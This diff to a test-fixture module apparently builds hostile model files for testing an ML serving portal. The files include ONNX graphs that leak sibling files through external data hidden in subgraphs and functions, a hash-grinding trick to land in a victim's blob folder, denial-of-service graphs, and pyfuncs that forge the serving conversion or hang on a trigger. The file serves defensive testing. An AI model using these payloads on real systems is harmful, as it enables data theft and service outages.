@@ -602,3 +602,223 @@ def memmap_pickle(model: Any, path: str) -> bytes:
     carrier = copy.deepcopy(model)
     carrier._hostile_memmap = _Memmap(path)
     return pickle.dumps(carrier, protocol=5)
+
+
+# --- Hostile ONNX graphs (issue 31: the in-process ONNX path) ------------------------------------------------------
+# No code runs from an ONNX file; these attack what onnxruntime does with data: read another file as a tensor's
+# external data, loop or allocate as told by an input value. Each graph takes two float inputs per row (f0, f1), and
+# answers one float per row, so it looks like an ordinary tabular model to the scan (its example is zeros).
+
+ONNX_COLUMNS = ["f0", "f1"]
+
+
+def _onnx_model(nodes: list[Any], *, initializers: list[Any] | None = None, sparse: list[Any] | None = None,
+                functions: list[Any] | None = None, doc: str = "") -> Any:
+    from onnx import TensorProto, helper
+
+    graph = helper.make_graph(nodes, "hostile", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 2])],
+                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None])],
+                              initializer=initializers or [], sparse_initializer=sparse or [])
+    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid("hostile", 1)] if functions else [])
+    model = helper.make_model(graph, opset_imports=opsets, functions=functions or [], doc_string=doc)
+    model.ir_version = 8
+    return model
+
+
+def _external(name: str, location: str, count: int) -> Any:
+    """A float tensor of ``count`` values whose bytes onnxruntime reads from ``location`` (next to the model)."""
+    from onnx import TensorProto
+
+    tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[count], data_location=TensorProto.EXTERNAL)
+    for key, value in (("location", location), ("offset", "0"), ("length", str(4 * count))):
+        entry = tensor.external_data.add()
+        entry.key, entry.value = key, value
+    return tensor
+
+
+def _first_column_as_index() -> list[Any]:
+    from onnx import TensorProto, helper
+
+    return [helper.make_node("Constant", [], ["zero"], value=helper.make_tensor("z", TensorProto.INT64, [], [0])),
+            helper.make_node("Gather", ["X", "zero"], ["c0"], axis=1),
+            helper.make_node("Cast", ["c0"], ["idx"], to=TensorProto.INT64)]
+
+
+def onnx_reading_sibling(victim: str, count: int, *, blob_prefix: str = "") -> bytes:
+    """A graph whose ``sparse_initializer`` values are ``count`` floats read, as external data, from the file
+    ``victim`` in the model's own folder; a request's first column picks which 4 bytes come back as a prediction.
+    With ``blob_prefix`` (the victim blob's first four hex digits), the doc string is varied until the graph's own
+    SHA-256 starts with them: the blob store then files it in the victim's folder (``blobs/ab/cd/``)."""
+    import hashlib
+    import itertools
+
+    from onnx import TensorProto, helper
+
+    indices = helper.make_tensor("S_indices", TensorProto.INT64, [count], list(range(count)))
+    sparse = helper.make_sparse_tensor(_external("S", victim, count), indices, [count])
+    nodes = [*_first_column_as_index(), helper.make_node("Gather", ["S", "idx"], ["Y"], axis=0)]
+    model = _onnx_model(nodes, sparse=[sparse])
+    for attempt in itertools.count():
+        model.doc_string = f"converted by skl2onnx ({attempt})"
+        data: bytes = model.SerializeToString()
+        if hashlib.sha256(data).hexdigest().startswith(blob_prefix):
+            return data
+    raise AssertionError("unreachable")
+
+
+def onnx_external_in_subgraph(location: str) -> bytes:
+    """External data where onnx's own graph-initializer check does not look: a Constant inside an ``If`` branch."""
+    from onnx import TensorProto, helper
+
+    def branch(name: str, tensor: Any) -> Any:
+        return helper.make_graph([helper.make_node("Constant", [], [f"{name}_out"], value=tensor)], name, [],
+                                 [helper.make_tensor_value_info(f"{name}_out", TensorProto.FLOAT, [None])])
+
+    nodes = [helper.make_node("ReduceSum", ["X"], ["total"], keepdims=0),
+             helper.make_node("Constant", [], ["limit"], value=helper.make_tensor("l", TensorProto.FLOAT, [], [0.0])),
+             helper.make_node("Greater", ["total", "limit"], ["cond"]),
+             helper.make_node("If", ["cond"], ["picked"],
+                              then_branch=branch("then", _external("secret", location, 4)),
+                              else_branch=branch("else", helper.make_tensor("zeros", TensorProto.FLOAT, [4], [0.0] * 4))),
+             *_first_column_as_index(), helper.make_node("Gather", ["picked", "idx"], ["Y"], axis=0)]
+    return bytes(_onnx_model(nodes).SerializeToString())
+
+
+def onnx_external_in_function(location: str) -> bytes:
+    """External data inside a model-local function's body (``ModelProto.functions``)."""
+    from onnx import helper
+
+    body = helper.make_function("hostile", "Secret", [], ["out"],
+                                [helper.make_node("Constant", [], ["out"], value=_external("secret", location, 4))],
+                                [helper.make_opsetid("", 17)])
+    nodes = [helper.make_node("Secret", [], ["picked"], domain="hostile"), *_first_column_as_index(),
+             helper.make_node("Gather", ["picked", "idx"], ["Y"], axis=0)]
+    return bytes(_onnx_model(nodes, functions=[body]).SerializeToString())
+
+
+def _per_row(scalar: str) -> list[Any]:
+    """Y = f0 * 0 + scalar: one answer per row, the attack's scalar added to each."""
+    from onnx import TensorProto, helper
+
+    return [helper.make_node("Constant", [], ["nought"], value=helper.make_tensor("n", TensorProto.FLOAT, [], [0.0])),
+            helper.make_node("ReduceSum", ["X", "axis1"], ["rowsum"], keepdims=0),
+            helper.make_node("Mul", ["rowsum", "nought"], ["zeroed"]),
+            helper.make_node("Add", ["zeroed", scalar], ["Y"])]
+
+
+def _axis1() -> Any:
+    from onnx import TensorProto, helper
+
+    return helper.make_tensor("axis1", TensorProto.INT64, [1], [1])
+
+
+def onnx_loop() -> bytes:
+    """A ``Loop`` whose trip count is the sum of the request's values (0 for the zero example; a billion for
+    ``[[1e9, 0]]``): nothing about the graph's size bounds its work."""
+    from onnx import TensorProto, helper
+
+    body = helper.make_graph(
+        [helper.make_node("Add", ["acc_in", "one"], ["acc_out"]), helper.make_node("Identity", ["cond_in"], ["cond_out"])],
+        "body", [helper.make_tensor_value_info("i", TensorProto.INT64, []),
+                 helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
+                 helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [])],
+        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
+         helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [])],
+        [helper.make_tensor("one", TensorProto.FLOAT, [], [1.0])])
+    nodes = [helper.make_node("ReduceSum", ["X"], ["total"], keepdims=0),
+             helper.make_node("Cast", ["total"], ["trips"], to=TensorProto.INT64),
+             helper.make_node("Constant", [], ["go"], value=helper.make_tensor("g", TensorProto.BOOL, [], [True])),
+             helper.make_node("Constant", [], ["start"], value=helper.make_tensor("s", TensorProto.FLOAT, [], [0.0])),
+             helper.make_node("Loop", ["trips", "go", "start"], ["count"], body=body),
+             helper.make_node("Mul", ["count", "tiny"], ["scalar"]), *_per_row("scalar")]
+    tiny = helper.make_tensor("tiny", TensorProto.FLOAT, [], [0.0])
+    return bytes(_onnx_model(nodes, initializers=[tiny, _axis1()]).SerializeToString())
+
+
+def onnx_constant_of_shape() -> bytes:
+    """``ConstantOfShape`` sized by the request: ``[[1e9, 0]]`` asks for 4 GB of ones, then sums them."""
+    from onnx import TensorProto, helper
+
+    nodes = [helper.make_node("ReduceSum", ["X"], ["total"], keepdims=0),
+             helper.make_node("Cast", ["total"], ["size"], to=TensorProto.INT64),
+             helper.make_node("Reshape", ["size", "shape1"], ["dims"]),
+             helper.make_node("ConstantOfShape", ["dims"], ["ones"],
+                              value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0])),
+             helper.make_node("ReduceSum", ["ones"], ["filled"], keepdims=0),
+             helper.make_node("Mul", ["filled", "tiny"], ["scalar"]), *_per_row("scalar")]
+    inits = [helper.make_tensor("shape1", TensorProto.INT64, [1], [1]), helper.make_tensor("tiny", TensorProto.FLOAT,
+                                                                                          [], [0.0]), _axis1()]
+    return bytes(_onnx_model(nodes, initializers=inits).SerializeToString())
+
+
+def forging_pyfunc_zip(onnx_bytes: bytes) -> bytes:
+    """A custom pyfunc (code an approver trusts) that behaves at upload, and, when the deployment's "prepare the
+    serving form" step loads it in the sandbox, writes ``onnx_bytes`` as the serving ONNX and answers for the
+    sandbox as the conversion would: ``{"ok": true, "kind": "onnx"}``. What the portal does with that claim is the
+    test."""
+    import base64
+
+    source = f'''
+import base64
+import json
+import os
+import sys
+
+import mlflow.pyfunc
+
+FORGED = base64.b64decode({base64.b64encode(onnx_bytes).decode()!r})
+
+
+class ForgingModel(mlflow.pyfunc.PythonModel):
+    def load_context(self, context):
+        if "prepare-serving" in sys.argv:
+            options = json.loads(sys.argv[sys.argv.index("prepare-serving") + 3])
+            with open(options["output"], "wb") as out:
+                out.write(FORGED)
+            sys.stdout.write("\\n" + json.dumps({{"ok": True, "kind": "onnx", "input_dtype": "float32",
+                                                "outputs": ["Y"]}}) + "\\n")
+            sys.stdout.flush()
+            os._exit(0)
+
+    def predict(self, context, model_input=None, params=None):
+        frame = model_input
+        return (frame.iloc[:, 0] + frame.iloc[:, 1]).astype("float64").to_numpy()
+'''
+    return _custom_pyfunc_zip(source, "ForgingModel")
+
+
+def hanging_pyfunc_zip() -> bytes:
+    """A custom pyfunc that answers like ``f0 + f1``, and never answers a request holding ``TRIGGER`` (it sleeps
+    an hour): a model host that hangs, with a warm-up and a scan that pass."""
+    source = f'''
+import time
+
+import mlflow.pyfunc
+
+
+class HangingModel(mlflow.pyfunc.PythonModel):
+    def predict(self, context, model_input=None, params=None):
+        frame = model_input
+        if (frame.select_dtypes("number") == {TRIGGER!r}).to_numpy().any():
+            time.sleep(3600)
+        return (frame.iloc[:, 0] + frame.iloc[:, 1]).astype("float64").to_numpy()
+'''
+    return _custom_pyfunc_zip(source, "HangingModel")
+
+
+def _custom_pyfunc_zip(source: str, class_name: str) -> bytes:
+    """An MLflow model zip of the ``class_name`` PythonModel that ``source`` defines, cloudpickled by value."""
+    import cloudpickle
+
+    module = f"custom_{uuid.uuid4().hex[:8]}"
+    namespace = types.ModuleType(module)
+    exec(compile(source, f"<{module}>", "exec"), namespace.__dict__)  # noqa: S102 - our own payload, definitions only
+    pyfunc = {"loader_module": "mlflow.pyfunc.model", "python_model": "python_model.pkl"}
+    members = [("python_model.pkl", bytes(cloudpickle.dumps(getattr(namespace, class_name)()))),
+               ("MLmodel", _mlmodel(python_function=pyfunc, with_signature=True, with_example=True).encode()),
+               ("input_example.json", json.dumps(EXAMPLE).encode())]
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members:
+            archive.writestr(name, data)
+    return buffer.getvalue()
